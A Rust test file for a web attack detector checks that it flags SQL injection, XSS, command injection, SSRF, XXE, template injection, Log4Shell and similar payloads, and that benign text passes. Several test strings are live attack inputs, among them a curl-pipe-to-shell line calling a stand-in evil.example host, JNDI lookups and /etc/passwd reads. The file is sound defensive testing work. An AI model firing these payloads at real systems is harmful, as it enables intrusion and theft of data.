//! Unit tests per class and per point, with false-positive traps.

use super::*;

fn det() -> &'static Detector {
    static D: std::sync::OnceLock<Detector> = std::sync::OnceLock::new();
    D.get_or_init(|| match Detector::new(DetectConfig::default()) {
        Ok(d) => d,
        Err(e) => panic!("rules must compile: {e}"),
    })
}

fn get(target: &str) -> Request {
    request_from_parts("GET", target, &[("Host", "app.test")], b"")
}

fn post(ct: &str, body: &str) -> Request {
    request_from_parts(
        "POST",
        "/submit",
        &[("Host", "app.test"), ("Content-Type", ct)],
        body.as_bytes(),
    )
}

fn classes(r: &Request) -> Vec<(String, String)> {
    det()
        .inspect(r)
        .into_iter()
        .map(|h| (h.class.as_str().to_owned(), h.point))
        .collect()
}

#[track_caller]
fn assert_hit(r: &Request, class: &str, point: &str) {
    let c = classes(r);
    assert!(
        c.iter().any(|(a, b)| a == class && b == point),
        "expected {class}@{point}, got {c:?} for {} {:?}",
        r.target,
        String::from_utf8_lossy(&r.body.data)
    );
}

#[track_caller]
fn assert_clean(r: &Request) {
    let h = det().inspect(r);
    assert!(
        h.is_empty(),
        "false positive on {} {:?}: {h:?}",
        r.target,
        String::from_utf8_lossy(&r.body.data)
    );
}

fn q(v: &str) -> String {
    let mut s = String::new();
    for b in v.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            s.push(b as char);
        } else {
            s.push_str(&format!("%{b:02X}"));
        }
    }
    s
}

#[test]
fn per_class() {
    let cases: &[(&str, &str)] = &[
        ("sqli", "1' OR '1'='1"),
        ("sqli", "1 UNION ALL SELECT username, password FROM users--"),
        ("sqli", "1);SELECT pg_sleep(10)--"),
        ("sqli", "admin'--"),
        ("xss", "<script>alert(document.cookie)</script>"),
        ("xss", "\"><img src=x onerror=alert(1)>"),
        ("xss", "javascript:alert(1)"),
        ("rce", "; cat /etc/passwd"),
        ("rce", "$(curl http://evil.example/x.sh|sh)"),
        ("rce", "() { :; }; /bin/bash -c id"),
        ("ptrav", "../../../../etc/passwd"),
        ("ptrav", "..%2f..%2f..%2fwindows%2fwin.ini"),
        ("rfi", "http://evil.example/shell.txt?"),
        ("ssrf", "http://169.254.169.254/latest/meta-data/"),
        ("ssrf", "http://2130706433/admin"),
        ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
        ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
        ("ssti", "{{7*7}}"),
        ("ssti", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
        ("nosqli", "{\"$where\": \"sleep(5000)\"}"),
        ("ldapi", "*)(uid=*))(|(uid=*"),
        ("xpathi", "' or count(/*)=1 or 'a'='b"),
        ("crlf", "x%0d%0aSet-Cookie:%20a=b"),
        ("log4shell", "${jndi:ldap://evil.example/a}"),
        ("log4shell", "${${lower:j}${lower:n}di:rmi://evil.example/a}"),
        ("mail", "x\r\nRCPT TO: victim@example.com\r\n"),
        ("ssi", "<!--#exec cmd=\"ls\" -->"),
        ("deserialization", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"),
        ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ];
    for (class, payload) in cases {
        assert_hit(&get(&format!("/search?q={}", q(payload))), class, "query.q");
    }
    assert_hit(
        &get(&format!("/login?next={}", q("//evil.example/"))),
        "open_redirect",
        "query.next",
    );
    let r = request_from_parts(
        "GET",
        "/",
        &[
            ("Host", "x"),
            ("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ],
        b"",
    );
    assert_hit(&r, "scanner", "header.user-agent");
    let r = request_from_parts(
        "POST",
        "/",
        &[
            ("Host", "x"),
            ("Content-Length", "4"),
            ("Transfer-Encoding", "chunked"),
        ],
        b"0\r\n\r\n",
    );
    assert_hit(&r, "protocol", "framing");
}

#[test]
fn per_point() {
    let p = "' UNION SELECT password FROM users--";
    assert_hit(&get(&format!("/api/items/{}/view", q(p))), "sqli", "path.2");
    assert_hit(
        &get(&format!("/a?ids[]=1&ids[]={}", q(p))),
        "sqli",
        "query.ids",
    );
    assert_hit(
        &get(&format!("/a?f[name]={}", q(p))),
        "sqli",
        "query.f.name",
    );
    assert_hit(
        &request_from_parts("GET", "/", &[("Host", "x"), ("X-Forwarded-For", p)], b""),
        "sqli",
        "header.x-forwarded-for",
    );
    assert_hit(
        &request_from_parts(
            "GET",
            "/",
            &[
                ("Host", "x"),
                ("Cookie", &format!("lang=en; session={}", q(p))),
            ],
            b"",
        ),
        "sqli",
        "cookie.session",
    );
    assert_hit(
        &post(
            "application/json",
            &format!("{{\"user\":{{\"name\":{}}}}}", serde_json::json!(p)),
        ),
        "sqli",
        "body.json.user.name",
    );
    assert_hit(
        &post(
            "application/x-www-form-urlencoded",
            &format!("q={}&x=1", q(p)),
        ),
        "sqli",
        "body.form.q",
    );
    let mp = format!("--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{p}\"\r\nContent-Type: image/png\r\n\r\n\u{1}\u{2}\r\n--B--\r\n");
    assert_hit(
        &post("multipart/form-data; boundary=B", &mp),
        "sqli",
        "body.multipart.file.filename",
    );
    assert_hit(
        &post(
            "application/xml",
            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
        ),
        "xxe",
        "body.xml",
    );
    let gql = serde_json::json!({"query": "query($id: ID!) { user(id: $id) { name } }", "variables": {"id": p}}).to_string();
    assert_hit(
        &post("application/json", &gql),
        "sqli",
        "body.graphql.variables.id",
    );
    assert_hit(
        &post("text/plain", "<script>alert(1)</script>"),
        "xss",
        "body.text",
    );
}

#[test]
fn nested_decoding() {
    // Double URL encoding, %u, base64 (unpadded), JSON in a form field, a JWT claim, gzip.
    assert_hit(
        &get("/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        "xss",
        "query.q",
    );
    assert_hit(
        &get("/?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
        "xss",
        "query.q",
    );
    assert_hit(
        &get("/?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg"),
        "xss",
        "query.q.base64",
    );
    assert_hit(
        &post(
            "application/x-www-form-urlencoded",
            "data=%7B%22name%22%3A%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%7D",
        ),
        "xss",
        "body.form.data.json.name",
    );
    // {"alg":"none"} . {"sub":"' or 1=1--"}
    let jwt = "eyJhbGciOiJub25lIn0.eyJzdWIiOiInIG9yIDE9MS0tIn0.";
    assert_hit(
        &request_from_parts(
            "GET",
            "/",
            &[("Host", "x"), ("Authorization", &format!("Bearer {jwt}"))],
            b"",
        ),
        "sqli",
        "header.authorization.jwt.payload.sub",
    );
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let _ = e.write_all(b"{\"q\":\"<script>alert(1)</script>\"}");
    let gz = e.finish().unwrap_or_default();
    let r = request_from_parts(
        "POST",
        "/",
        &[
            ("Host", "x"),
            ("Content-Type", "application/json"),
            ("Content-Encoding", "gzip"),
        ],
        &gz,
    );
    assert_hit(&r, "xss", "body.json.q");
    // HTML entities and \u escapes.
    assert_hit(
        &get(&format!("/?q={}", q("&lt;svg/onload&equals;alert(1)&gt;"))),
        "xss",
        "query.q",
    );
    assert_hit(
        &post(
            "application/json",
            r#"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
        ),
        "xss",
        "body.json.q",
    );
}

#[test]
fn false_positive_traps() {
    let benign = [
        "union was a great select",
        "D'or 1st parfume",
        "john+or@var.es",
        "O'Reilly's book -- a review",
        "Select the best option and drop me a line",
        "I'd like 2 tickets for Saturday; thanks!",
        "echo in the mirror",
        "nc 8000 controller",
        "zsh is the best!",
        "Tom & Jerry | Season 1",
        "JavaScript: Basics of JavaScript Language",
        "Price is ${price} per month",
        "Use {{name}} to greet the user",
        "https://www.example.com/products?utm_source=news&utm_medium=email",
        "../images/logo.png",
        "C:\\Users\\Public\\Documents\\report.docx",
        "rm -rf is a dangerous command, don't run it",
        "what's 1+1? it's 2, isn't it",
        "SELECT * is discouraged in production SQL, says the style guide",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "<p>Hello <b>world</b>, see <a href=\"https://example.com\">this</a>.</p>",
        "mailto:team@example.com",
        "(555) 123-4567",
        "1=1 is always true in math class",
    ];
    for b in benign {
        assert_clean(&get(&format!("/search?q={}", q(b))));
        assert_clean(&post(
            "application/x-www-form-urlencoded",
            &format!("comment={}", q(b)),
        ));
    }
    let browser = request_from_parts(
        "GET",
        "/en-US/docs/Web/API?utm_campaign=spring_sale&gclid=Cj0KCQiA&ref=https%3A%2F%2Fwww.google.com%2F",
        &[
            ("Host", "developer.example.org"),
            ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"),
            ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
            ("Accept-Language", "en-US,en;q=0.5"),
            ("Referer", "https://www.google.com/search?q=web+api+docs&oq=web+api"),
            ("Cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; prefs={\"theme\":\"dark\"}"),
            ("Sec-Ch-Ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\""),
            ("If-None-Match", "W/\"5e-18c8d2e1a40\""),
        ],
        b"",
    );
    assert_clean(&browser);
}

/// Misses found by the second attack set (corpus/gen_attacks.py, "own-attacks-2"), each fixed by
/// a grammar or normalisation change rather than by matching the corpus string.
#[test]
fn generalisation_misses() {
    let cases: &[(&str, &str)] = &[
        // A weak command word alone between shell separators.
        ("rce", "; id"),
        ("rce", "| id"),
        ("rce", "$(id)"),
        ("rce", "a && id"),
        ("rce", "|| id #"),
        // The argument of `sh -c` (F5 iControl `utilCmdArgs`).
        ("rce", "-c id"),
        // A binary named by a glob.
        ("rce", ";/???/??t /???/p??s??"),
        ("rce", "& dir c:\\"),
        // Groovy `execute()` and OGNL expressions.
        ("rce", "throw new Exception('id'.execute().text);"),
        (
            "rce",
            "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
        ),
        // LDAP extensible match and nested filters.
        ("ldapi", "(cn:dn:=admin)"),
        ("ldapi", "sn:caseExactMatch:=Smith"),
        ("ldapi", "admin*)((|userPassword=*)"),
        ("xpathi", "') or true() or ('"),
        (
            "ssti",
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
        ),
        // IPv4-mapped IPv6 in hex: 169.254.169.254.
        ("ssrf", "http://[::ffff:a9fe:a9fe]/latest/"),
        // A value that is only a climb.
        ("ptrav", "../"),
        ("sqli", "admin' #"),
        // Tabs and line breaks that browsers drop inside a URL scheme.
        ("xss", "<iframe src=j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&Tab;:alert(1)></iframe>"),
        ("sqli", "1\tOR\t1=1"),
    ];
    for (class, payload) in cases {
        assert_hit(&get(&format!("/search?q={}", q(payload))), class, "query.q");
    }
    // LDAP extensible match cut at its own `=` by form decoding.
    assert_hit(
        &post(
            "application/x-www-form-urlencoded",
            "userPassword:2.5.13.18:=123",
        ),
        "ldapi",
        "body.form.userPassword:2.5.13.18:",
    );
    // Tab tricks in a redirect target.
    assert_hit(
        &get(&format!("/sso/logout?returnTo={}", q("/%09/evil.example"))),
        "open_redirect",
        "query.returnTo",
    );
    // Callback injection (ThinkPHP).
    assert_hit(
        &post(
            "application/x-www-form-urlencoded",
            "_method=__construct&filter[]=system&method=get",
        ),
        "rce",
        "body.form.filter",
    );
    // A quoted multipart filename holding `;`.
    let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"; nslookup x.example\"\r\n\r\nx\r\n--B--\r\n";
    assert_hit(
        &post("multipart/form-data; boundary=B", body),
        "rce",
        "body.multipart.f.filename",
    );
    // XML schema documents and schema locations that fetch from elsewhere.
    assert_hit(
        &post(
            "application/xml",
            "<xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\"><xsd:import namespace=\"urn:x\" schemaLocation=\"http://198.51.100.7/x.xsd\"/></xsd:schema>",
        ),
        "xxe",
        "body.xml",
    );
    assert_hit(
        &post(
            "application/xml",
            "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://x.example/\"/>",
        ),
        "xxe",
        "body.xml",
    );
    // Credentials in Basic auth are a point.
    let r = request_from_parts(
        "GET",
        "/admin",
        &[
            ("Host", "x"),
            (
                "Authorization",
                "Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06eA==",
            ),
        ],
        b"",
    );
    assert_hit(&r, "log4shell", "header.authorization.basic");
    // A scheme-less internal host with a path in a cookie (Exchange ProxyLogon style).
    let r = request_from_parts(
        "GET",
        "/ecp/y.js",
        &[
            ("Host", "x"),
            (
                "Cookie",
                "X-BEResource=localhost/owa/auth/logon.aspx?~1942062522",
            ),
        ],
        b"",
    );
    assert_hit(&r, "ssrf", "cookie.X-BEResource");
    // Connection naming an identity header for a proxy to strip.
    let r = request_from_parts(
        "POST",
        "/mgmt/tm/util/bash",
        &[
            ("Host", "x"),
            ("Connection", "keep-alive, X-F5-Auth-Token"),
            ("X-F5-Auth-Token", "a"),
        ],
        b"",
    );
    assert_hit(&r, "protocol", "framing");
}

/// Benign shapes of the second benign set that looked like attacks before their fix.
#[test]
fn generalisation_false_positive_traps() {
    let benign = [
        "(shoes OR boots) AND size:42",
        "Use `git log --oneline | head -5` to see the last commits, then push.",
        "Here is the snippet:\n```bash\ncurl -s https://api.example.com/v1/items | jq .\n```\nIt prints nothing at all for me.",
        "Find the best deals on laptops, phones & more",
        "B&W prints only",
        "127.0.0.1/8",
        "localhost:3000",
        "In Go you write `x := compute(a, b)` and the type is inferred.",
    ];
    for b in benign {
        assert_clean(&get(&format!("/search?q={}", q(b))));
        assert_clean(&post(
            "application/json",
            &serde_json::json!({ "body": b }).to_string(),
        ));
    }
    let ws = request_from_parts(
        "GET",
        "/ws",
        &[
            ("Host", "x"),
            ("Connection", "keep-alive, Upgrade"),
            ("Upgrade", "websocket"),
        ],
        b"",
    );
    assert_clean(&ws);
    let grpc = request_from_parts(
        "GET",
        "/healthz",
        &[
            ("Host", "x"),
            ("Connection", "TE, keep-alive"),
            ("TE", "trailers"),
        ],
        b"",
    );
    assert_clean(&grpc);
    // Browsing an intranet site: the Referer and Origin name internal pages.
    let intranet = request_from_parts(
        "POST",
        "/wiki/save",
        &[
            ("Host", "10.20.0.7"),
            ("Referer", "http://10.20.0.7/wiki/edit?page=Home"),
            ("Origin", "http://10.20.0.7"),
        ],
        b"",
    );
    assert_clean(&intranet);
    // ... but a cloud metadata address is still SSRF wherever it is.
    let metadata = request_from_parts(
        "GET",
        "/fetch",
        &[
            ("Host", "x"),
            ("Referer", "http://169.254.169.254/latest/meta-data/iam/"),
        ],
        b"",
    );
    assert_hit(&metadata, "ssrf", "header.referer");
    let sitemap = "<?xml version=\"1.0\"?><urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.sitemaps.org/schemas/sitemap/0.9 http://www.sitemaps.org/schemas/sitemap/0.9/sitemap.xsd\"><url><loc>https://x.example/a</loc></url></urlset>";
    assert_clean(&post("application/xml", sitemap));
}

#[test]
fn hostile_inputs() {
    let d = det();
    let big = "A".repeat(2 << 20);
    let _ = d.inspect(&get(&format!("/?q={big}")));
    let deep = "{\"a\":".repeat(10_000) + "1" + &"}".repeat(10_000);
    let _ = d.inspect(&post("application/json", &deep));
    let bad = request_from_parts(
        "POST",
        "/\u{fffd}%ff%fe?%%%=%u12",
        &[
            ("Host", "\u{0}"),
            ("Content-Type", "multipart/form-data; boundary=\"\""),
        ],
        b"\xff\xfe\x00--\r\n",
    );
    let _ = d.inspect(&bad);
    let many_dots = "../".repeat(100_000);
    let _ = d.inspect(&get(&format!("/?f={many_dots}")));
    let nested = "${".repeat(50_000);
    let _ = d.inspect(&get(&format!("/?f={nested}")));
    // Bounded time: a megabyte of hostile text in every point kind at once, generous limit
    // for unoptimised test builds on a shared machine.
    let t0 = std::time::Instant::now();
    let evil = "<a onx=".repeat(20_000) + &"' or 1=1 -- ".repeat(20_000) + &"; cat ".repeat(20_000);
    let r = request_from_parts(
        "POST",
        &format!("/{}?q={}", q(&evil[..4000]), q(&evil)),
        &[
            ("Host", "x"),
            ("User-Agent", &evil),
            ("Content-Type", "application/x-www-form-urlencoded"),
        ],
        format!("a={}", q(&evil)).as_bytes(),
    );
    let hits = d.inspect(&r);
    assert!(hits.len() <= d.config().max_hits);
    assert!(
        t0.elapsed() < std::time::Duration::from_secs(20),
        "took {:?}",
        t0.elapsed()
    );
}

#[test]
fn outcome_from_response() {
    use model::{Body, Endpoint, FlowId, Headers, HttpVersion, Outcome, Response, Timestamp};
    let d = det();
    let mk = |status: u16, ct: &str, body: &str| Response {
        ts: Timestamp(1),
        version: HttpVersion::Http11,
        status,
        reason: String::new(),
        headers: Headers(vec![("Content-Type".into(), ct.into())]),
        body: Body {
            len: body.len() as u64,
            data: body.as_bytes().to_vec(),
            decoded_from: None,
            truncated: false,
        },
        trailers: Headers::default(),
        interim: vec![],
    };
    let ep = Endpoint::new(std::net::IpAddr::from([10, 0, 0, 1]), 80);
    let ex = |req: Request, resp: Option<Response>| Exchange {
        id: 7,
        flow_id: FlowId(1),
        ts: Timestamp(1),
        flow: model::exchange::FlowInfo {
            client: ep,
            server: ep,
            tunnel: Default::default(),
            vlan: None,
        },
        request: Some(req),
        response: resp,
        flags: vec![],
    };
    let sqli = get("/item?id=1%27%20OR%20%271%27%3D%271");
    let a = d.analyse(&ex(
        sqli.clone(),
        Some(mk(
            500,
            "text/html",
            "You have an error in your SQL syntax near ''1''",
        )),
    ));
    assert_eq!(a.first().map(|a| a.outcome), Some(Outcome::Succeeded));
    let a = d.analyse(&ex(
        sqli.clone(),
        Some(mk(403, "text/html", "<h1>Request Rejected</h1>")),
    ));
    assert_eq!(a.first().map(|a| a.outcome), Some(Outcome::Blocked));
    let a = d.analyse(&ex(sqli.clone(), Some(mk(404, "text/html", "not found"))));
    assert_eq!(a.first().map(|a| a.outcome), Some(Outcome::Failed));
    let a = d.analyse(&ex(sqli, None));
    assert_eq!(a.first().map(|a| a.outcome), Some(Outcome::Unknown));
    let lfi = get("/download?file=..%2F..%2F..%2Fetc%2Fpasswd");
    let a = d.analyse(&ex(
        lfi,
        Some(mk(200, "text/plain", "root:x:0:0:root:/root:/bin/bash\n")),
    ));
    assert_eq!(a.first().map(|a| a.outcome), Some(Outcome::Succeeded));
    let xss = get("/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    let a = d.analyse(&ex(
        xss.clone(),
        Some(mk(
            200,
            "text/html",
            "<p>Results for <script>alert(1)</script></p>",
        )),
    ));
    assert!(
        a.iter()
            .any(|a| a.class == "xss" && a.outcome == Outcome::Succeeded),
        "{a:?}"
    );
    let a = d.analyse(&ex(
        xss,
        Some(mk(
            200,
            "text/html",
            "<p>Results for &lt;script&gt;alert(1)&lt;/script&gt;</p>",
        )),
    ));
    assert!(
        a.iter()
            .any(|a| a.class == "xss" && a.outcome == Outcome::Failed),
        "{a:?}"
    );
    let rce = get("/ping?host=127.0.0.1%3Bid");
    let a = d.analyse(&ex(
        rce,
        Some(mk(
            200,
            "text/plain",
            "PING ...\nuid=33(www-data) gid=33(www-data) groups=33(www-data)",
        )),
    ));
    assert!(
        a.iter()
            .any(|a| a.class == "rce" && a.outcome == Outcome::Succeeded),
        "{a:?}"
    );
    let ssti = get("/hello?name=%7B%7B1337*1338%7D%7D");
    let a = d.analyse(&ex(ssti, Some(mk(200, "text/html", "Hello 1788906"))));
    assert!(
        a.iter()
            .any(|a| a.class == "ssti" && a.outcome == Outcome::Succeeded),
        "{a:?}"
    );
    // Smuggling flags from the HTTP layer become protocol attacks; the event serializes.
    let mut e = ex(get("/"), None);
    e.flags.push(model::Flag::ConflictingContentLength);
    let a = d.analyse(&e);
    assert!(a.iter().any(|a| a.class == "protocol"));
    let ev = model::Event::Attack(Box::new(
        a.into_iter().next().unwrap_or_else(|| panic!("one attack")),
    ));
    let js = serde_json::to_string(&ev).unwrap_or_default();
    assert!(js.starts_with("{\"type\":\"attack\""), "{js}");
}

#[test]
fn detector_is_send_sync() {
    fn check<T: Send + Sync>() {}
    check::<Detector>();
}
